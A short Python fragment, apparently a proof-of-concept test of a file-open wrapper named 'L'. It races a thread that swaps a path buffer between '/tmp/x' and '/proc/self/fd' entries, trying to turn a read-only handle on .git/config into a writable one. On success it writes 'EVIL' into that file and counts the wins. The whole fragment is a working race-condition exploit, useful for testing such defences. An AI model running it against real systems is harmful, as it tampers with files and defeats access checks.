ro = os.open('.git/config', os.O_RDONLY); ro2 = os.open('file', os.O_RDONLY|os.O_CREAT); log = os.open('log', os.O_CREAT|os.O_WRONLY|os.O_APPEND, 0o600)
buf = ctypes.create_string_buffer(64); stop = time.time() + 2; won = 0; evil = os.fstat(ro).st_ino
def flip():
    while time.time() < stop:
        for n in (ro, ro2, log): buf.value = b'/tmp/x'; buf.value = b'/proc/self/fd/%d' % n
th = threading.Thread(target=flip); th.start()
while time.time() < stop:
    g = L.open(buf, os.O_RDWR|os.O_CREAT|os.O_APPEND, 0o600)
    if g < 0: continue
    if os.fstat(g).st_ino == evil: say('GOT'); os.write(g, b'EVIL')
    won += os.fstat(g).st_ino == os.fstat(log).st_ino; os.close(g)
th.join(); say('raced', won)
